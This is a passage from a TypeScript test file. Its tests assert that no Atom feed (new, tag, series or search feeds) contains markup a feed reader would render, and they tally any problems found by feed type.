          expect(echo.length, `${echo.length} problems, for example:\n${echo.slice(0, 20).join('\n')}`).toBe(0);
        });

        it('no Atom feed holds markup a feed reader would render', () => {
          // (the pages above are safe in the browser, which shows a feed as plain text; this is what a
          // feed reader makes of the same documents)
          const by = new Map<string, number>();
          for (const p of feedReader) {
            const k = / \S*\/new\.atom: /.test(p)
              ? 'new.atom'
              : / \S*\/t\.atom: /.test(p)
                ? 't.atom'
                : / \S*\/series\.atom: /.test(p)
                  ? 'series.atom'
                  : / \S*[?&]x=A\S*: /.test(p)
                    ? 'search (x=A)'
                    : 'other';
            by.set(k, (by.get(k) ?? 0) + 1);
          }
          expect(
            feedReader.length,
            `${feedReader.length} problems (${JSON.stringify(Object.fromEntries(by))}), for example:\n${feedReader.slice(0, 20).join('\n')}`,
          ).toBe(0);
        });
      });
    },
  );
}
